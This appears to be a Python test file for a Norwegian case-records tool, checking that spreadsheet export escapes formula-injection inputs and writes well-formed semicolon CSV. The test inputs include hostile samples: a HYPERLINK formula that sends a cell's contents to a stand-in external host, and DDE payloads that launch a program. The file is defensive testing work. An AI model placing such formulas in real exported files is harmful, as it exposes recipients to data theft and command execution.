"""Cells that a spreadsheet could run, and the file that it opens."""

from __future__ import annotations

import csv
import datetime
import io
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from saksgang.core.spreadsheet import Cell, csv_file, safe_cell


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("https://elsewhere.invalid/?"&A1;"Klikk")',
        "+47 73 00 00 00",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+9)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "  =1+1",
        "\u00a0=1+1",
        "\u200b=1+1",
        "\ufeff=1+1",
        "＝1+1",
        "＋1",
        "－1+1",
        "＠SUM(1)",
        "\u22121+1",
        "\x00=1+1",
        "'=1+1",
        '"=1+1',
        "|calc",
        "-",
        "- et punkt i en liste",
    ],
)
def test_text_that_could_be_run_gets_an_apostrophe(text: str) -> None:
    assert safe_cell(text).startswith("'")


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("Åse Nordmyr", "Åse Nordmyr"),
        ("KF 33/22", "KF 33/22"),
        ("-1 250,50", "-1 250,50"),
        ("-12", "-12"),
        ("+4", "+4"),
        ("51,95 %", "51,95 %"),
        ("a=b", "a=b"),
        ("", ""),
        (None, ""),
        (-3, "-3"),
        (Decimal("-3.50"), "-3.50"),
        (datetime.date(2030, 1, 18), "2030-01-18"),
        ("to\nlinjer", "to\nlinjer"),
    ],
)
def test_plain_value_stays_as_it_is(value: Cell, cell: str) -> None:
    assert safe_cell(value) == cell


def test_file_has_its_mark_semicolons_and_whole_cells() -> None:
    made = csv_file(["Sak", "Vedtak"], [["KF 1/30", "Ja; «begge»\n=2. punkt"], ["=1+1", None]])

    assert made.startswith(b"\xef\xbb\xbf")
    assert list(csv.reader(io.StringIO(made.decode("utf-8-sig"), newline=""), delimiter=";")) == [
        ["Sak", "Vedtak"],
        ["KF 1/30", "Ja; «begge»\n=2. punkt"],
        ["'=1+1", ""],
    ]


@given(st.text())
def test_no_cell_of_any_text_starts_as_a_formula(text: str) -> None:
    cell = safe_cell(text)

    assert not cell.startswith(("=", "@", "\t", "\r", "\n", "＝", "＠"))
    assert cell.lstrip()[:1] not in ("=", "@", "＝", "＠")
    cell.encode("utf-8")
